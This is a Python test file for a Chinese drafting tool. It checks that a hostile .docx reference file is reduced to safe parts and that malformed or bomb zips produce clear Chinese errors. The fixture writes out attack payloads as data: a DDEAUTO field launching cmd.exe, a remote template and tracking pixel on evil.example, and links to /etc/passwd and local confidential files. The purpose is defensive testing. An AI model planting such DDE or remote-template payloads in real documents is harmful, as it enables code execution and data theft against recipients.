"""A Word file from elsewhere (issue 14): a reference document is reduced to
what draft takes from it, and a hostile zip is a clear Chinese error, for both
``--reference-doc`` and ``draft extract``.

The reference file here is written part by part, as a Word file carrying an
attached template, OLE-style links, DDE and INCLUDE fields, tracking
hyperlinks, customXml and its author's metadata would be."""

import io
import zipfile

import docx
import pytest
from click.testing import CliRunner

from drafting.cli import main

from .conftest import MINIMAL

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def rels(*items):
    body = "".join(
        f'<Relationship Id="{i}" Type="{t}" Target="{target}"{mode}/>' for i, t, target, mode in items
    )
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PKG}">{body}</Relationships>'


EXTERNAL = ' TargetMode="External"'
FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {0} </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{1}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)

HOSTILE_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
        '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'
        '<Override PartName="/word/footer1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/>'
        '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
        '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>'
        '<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": rels(
        ("rId1", f"{RT}/officeDocument", "word/document.xml", ""),
        ("rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml", ""),
        ("rId3", f"{RT}/extended-properties", "docProps/app.xml", ""),
        ("rId4", f"{RT}/custom-properties", "docProps/custom.xml", ""),
    ),
    "word/document.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {W} {R}><w:body><w:p><w:r><w:t>去年的正文</w:t></w:r></w:p>'
        '<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/><w:footerReference w:type="default" r:id="rIdF"/>'
        '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="2098" w:right="1474" w:bottom="1984" w:left="1588" '
        'w:header="851" w:footer="992" w:gutter="0"/></w:sectPr></w:body></w:document>'
    ),
    "word/_rels/document.xml.rels": rels(
        ("rIdS", f"{RT}/settings", "settings.xml", ""),
        ("rIdH", f"{RT}/header", "header1.xml", ""),
        ("rIdF", f"{RT}/footer", "footer1.xml", ""),
        ("rIdC", f"{RT}/customXml", "../customXml/item1.xml", ""),
        ("rIdO", f"{RT}/oleObject", "file:///C:/机密/台账.xlsx", EXTERNAL),
    ),
    "word/settings.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><w:settings {W} {R}><w:attachedTemplate r:id="rIdT"/>'
        '<w:docVars><w:docVar w:name="密级" w:val="内部"/></w:docVars></w:settings>'
    ),
    "word/_rels/settings.xml.rels": rels(
        ("rIdT", f"{RT}/attachedTemplate", "http://evil.example/模板.dotm", EXTERNAL)
    ),
    "word/header1.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><w:hdr {W} {R}><w:p><w:r><w:t>某某局文件</w:t></w:r>'
        '<w:hyperlink r:id="rIdL"><w:r><w:t>链接文字</w:t></w:r></w:hyperlink>'
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\机密.docx&quot; "><w:r><w:t>机密内容</w:t></w:r></w:fldSimple>'
        + FIELD.format('INCLUDEPICTURE "http://evil.example/pixel.png" \\d', "图")
        + "</w:p></w:hdr>"
    ),
    "word/_rels/header1.xml.rels": rels(("rIdL", f"{RT}/hyperlink", "file:///etc/passwd", EXTERNAL)),
    "word/footer1.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><w:ftr {W} {R}><w:p><w:r><w:t>第</w:t></w:r>'
        + FIELD.format("PAGE \\* MERGEFORMAT", "1")
        + '<w:r><w:t>页</w:t></w:r>'
        + FIELD.format('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "x")
        + "</w:p></w:ftr>"
    ),
    "customXml/item1.xml": "<密级>机密</密级>",
    "docProps/core.xml": (
        '<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>张三</dc:creator>'
        "<cp:lastModifiedBy>李四</cp:lastModifiedBy><cp:keywords>内部资料</cp:keywords></cp:coreProperties>"
    ),
    "docProps/app.xml": (
        '<?xml version="1.0" encoding="UTF-8"?><Properties '
        'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        "<Company>某某公司</Company><Manager>王五</Manager></Properties>"
    ),
    "docProps/custom.xml": (
        '<?xml version="1.0" encoding="UTF-8"?><Properties '
        'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="分类标签"><vt:lpwstr>绝密</vt:lpwstr></property>'
        "</Properties>"
    ),
}

LEAKS = ["evil.example", "file:///", "passwd", "INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO", "cmd.exe", "机密",
         "张三", "李四", "内部资料", "某某公司", "王五", "绝密", "customXml", "attachedTemplate", "docVar", 'TargetMode="External"']


def zipped(parts, **options):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(name, text.encode("utf-8") if isinstance(text, str) else text)
    return out.getvalue()


@pytest.fixture
def speech(tmp_path):
    path = tmp_path / "speech.yaml"
    path.write_text(MINIMAL, encoding="utf-8")
    return path


def run(*args):
    result = CliRunner().invoke(main, [*map(str, args)], catch_exceptions=False)
    assert "Traceback" not in result.output
    return result


def test_a_hostile_reference_is_reduced_to_styles_page_and_plain_headers(tmp_path, speech):
    reference = tmp_path / "本单位模板.docx"
    reference.write_bytes(zipped(HOSTILE_PARTS))
    result = run("build", speech, "--reference-doc", reference)
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(speech.with_suffix(".docx")) as z:
        text = {name: z.read(name).decode("utf-8", "replace") for name in z.namelist()}
    everything = "\n".join(f"{name}\n{body}" for name, body in text.items())
    assert [leak for leak in LEAKS if leak in everything] == []
    word = docx.Document(str(speech.with_suffix(".docx")))
    header = word.sections[0].header.paragraphs[0].text
    assert "某某局文件" in header and "链接文字" in header  # the link's text stays, the link goes
    footer = "\n".join(body for name, body in text.items() if "footer" in name)
    assert "PAGE" in footer and "第" in footer
    assert "去年的正文" not in everything


def _bomb():
    return zipped({**HOSTILE_PARTS, "word/media/zeros.bin": b"\0" * (8 * 1024 * 1024)})


def _bad_deflate():
    raw = bytearray(zipped({**HOSTILE_PARTS, "word/document.xml": "<w:document " + "x" * 50_000}))
    at = raw.find(b"word/document.xml") + 40
    raw[at : at + 200] = bytes(range(200))
    return bytes(raw)


def _encrypted():
    raw = bytearray(zipped(HOSTILE_PARTS))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(signature)
        while at != -1:
            raw[at + offset] |= 1
            at = raw.find(signature, at + 4)
    return bytes(raw)


def _non_ascii_name():
    return zipped({**HOSTILE_PARTS, "word/媒体/图.xml": "<a/>"})


HOSTILE_ZIPS = {
    "bomb": (_bomb, "压缩炸弹"),
    "bad deflate": (_bad_deflate, "损坏"),
    "encrypted": (_encrypted, "密码"),
    "non-ASCII part name": (_non_ascii_name, "部件名"),
    "not a zip": (lambda: b"PK\x03\x04" + b"\0" * 100, "不是有效的 .docx"),
}


@pytest.mark.parametrize("case", HOSTILE_ZIPS.values(), ids=HOSTILE_ZIPS.keys())
def test_a_hostile_zip_as_reference_is_a_chinese_error(tmp_path, speech, case):
    make, words = case
    reference = tmp_path / "模板.docx"
    reference.write_bytes(make())
    result = run("build", speech, "--reference-doc", reference)
    assert result.exit_code == 1 and words in result.stderr and "模板.docx" in result.stderr
    assert not speech.with_suffix(".docx").exists()


@pytest.mark.parametrize("case", HOSTILE_ZIPS.values(), ids=HOSTILE_ZIPS.keys())
def test_a_hostile_zip_to_extract_is_a_chinese_error(tmp_path, case):
    make, words = case
    old = tmp_path / "旧稿.docx"
    old.write_bytes(make())
    result = run("extract", old)
    assert result.exit_code == 1 and words in result.stderr and "旧稿.docx" in result.stderr
    assert not old.with_suffix(".yaml").exists()


def test_a_bomb_within_the_ratio_is_stopped_by_the_total(tmp_path, speech, monkeypatch):
    from drafting import safe_zip

    monkeypatch.setattr(safe_zip, "MAX_UNPACKED_BYTES", 4096)
    reference = tmp_path / "模板.docx"
    reference.write_bytes(zipped({**HOSTILE_PARTS, "word/media/a.bin": b"ab" * 2000}))
    result = run("build", speech, "--reference-doc", reference)
    assert result.exit_code == 1 and "过大" in result.stderr
